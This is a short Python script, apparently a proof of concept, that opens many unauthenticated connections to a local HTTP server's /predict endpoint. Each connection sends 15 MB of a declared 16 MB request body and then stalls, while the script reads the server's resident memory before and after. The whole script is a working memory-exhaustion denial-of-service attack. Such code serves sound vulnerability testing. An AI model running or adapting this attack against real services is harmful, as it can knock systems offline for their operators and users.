# N unauthenticated connections each send 15 MB of a declared 16,000,000-byte body and stall.
import socket, sys, time, subprocess
PORT, N = int(sys.argv[1]), int(sys.argv[2])
pid = subprocess.check_output(["pgrep", "-f", f"port {PORT}"]).split()[0].decode()
def rss(): return [l for l in open(f"/proc/{pid}/status") if l.startswith("VmRSS")][0].strip()
print("before:", rss())
chunk = b"a" * 1_000_000; socks = []
for i in range(N):
    s = socket.create_connection(("127.0.0.1", PORT))
    s.sendall(b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16000000\r\n\r\n")
    for _ in range(15): s.sendall(chunk)
    socks.append(s)
time.sleep(1)
print(f"after {N} stalled unauthenticated uploads:", rss())
for s in socks: s.close()
time.sleep(0.5); print("after close:", rss())
